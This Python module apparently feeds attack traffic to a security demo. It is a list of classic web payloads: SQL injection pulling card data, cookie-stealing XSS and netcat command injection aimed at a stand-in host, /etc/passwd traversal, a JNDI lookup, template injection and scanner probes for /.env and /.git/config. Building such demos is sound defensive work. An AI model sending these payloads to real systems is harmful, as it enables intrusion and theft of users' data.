"""What the attackers of the demo send: classic payloads, each against the page where it would hurt."""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Attack:
    """One request; ``front`` and ``orders`` are the paths it takes on either service."""

    name: str
    front: str
    orders: str
    query: dict[str, str] = field(default_factory=dict)
    headers: dict[str, str] = field(default_factory=dict)


ATTACKS = (
    Attack("SQL injection, all rows", "/search", "/search", {"q": "%' or '1'='1' --"}),
    Attack(
        "SQL injection, other table",
        "/search",
        "/search",
        {"q": "x%' union select shopper, card, total from orders --"},
    ),
    # Looks like nothing by itself: only the statement that it ends up in shows what it does.
    Attack("SQL injection, another column", "/search", "/search", {"q": "brass' || card || '"}),
    Attack(
        "cross-site scripting", "/search", "/search", {"q": "<script>fetch('//203.0.113.9/'+document.cookie)</script>"}
    ),
    Attack(
        "path traversal",
        "/help",
        "/search",
        {"page": "../../../../../../etc/passwd", "q": "../../../../../../etc/passwd"},
    ),
    Attack("command injection", "/search", "/search", {"q": "lamp; cat /etc/passwd | nc 203.0.113.9 4444"}),
    Attack("look-up injection", "/", "/health", headers={"User-Agent": "${jndi:ldap://203.0.113.9/a}"}),
    Attack("scanner", "/", "/health", headers={"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
    Attack("scanner looking for secrets", "/.env", "/.git/config", headers={"User-Agent": "Mozilla/5.0 (Nikto/2.5.0)"}),
    Attack("template injection", "/search", "/search", {"q": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}),
)
